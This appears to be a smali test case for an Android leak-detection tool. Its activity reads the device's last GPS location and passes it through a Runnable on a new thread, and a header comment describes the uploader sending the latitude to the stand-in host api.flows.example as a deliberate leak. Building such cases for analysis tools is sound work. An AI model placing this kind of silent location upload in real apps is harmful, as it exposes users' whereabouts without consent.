.class public Lorg/apkaudit/flows/thread/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

# Flow case "thread" (1 leak, network).
#
#   onCreate:
#     LocationManager lm = (LocationManager) getSystemService("location");
#     Location loc = lm.getLastKnownLocation("gps");
#     if (loc != null) new Thread(new LocationUploader(loc)).start();   // carrier: Runnable field
#   LocationUploader.run():
#     String lat = String.valueOf(this.location.getLatitude());
#     ... new URL("https://api.flows.example/v1/thread").openConnection() ...
#     out.write(lat.getBytes("UTF-8"));          // <- the leak
#
# try/catch (SecurityException): ACCESS_FINE_LOCATION may not be granted.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Activity;-><init>()V

    return-void
.end method


# virtual methods
.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5

    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V

    :try_start_0
    const-string v0, "location"

    invoke-virtual {p0, v0}, Lorg/apkaudit/flows/thread/MainActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;

    move-result-object v0

    check-cast v0, Landroid/location/LocationManager;

    const-string v1, "gps"

    # source: the last GPS fix
    invoke-virtual {v0, v1}, Landroid/location/LocationManager;->getLastKnownLocation(Ljava/lang/String;)Landroid/location/Location;

    move-result-object v0

    if-eqz v0, :cond_done

    # carrier: a field of the Runnable, which a new Thread runs
    new-instance v1, Ljava/lang/Thread;

    new-instance v2, Lorg/apkaudit/flows/thread/LocationUploader;

    invoke-direct {v2, v0}, Lorg/apkaudit/flows/thread/LocationUploader;-><init>(Landroid/location/Location;)V

    invoke-direct {v1, v2}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v1}, Ljava/lang/Thread;->start()V
    :try_end_0
    .catch Ljava/lang/SecurityException; {:try_start_0 .. :try_end_0} :catch_0

    :cond_done
    return-void

    :catch_0
    move-exception v0

    return-void
.end method
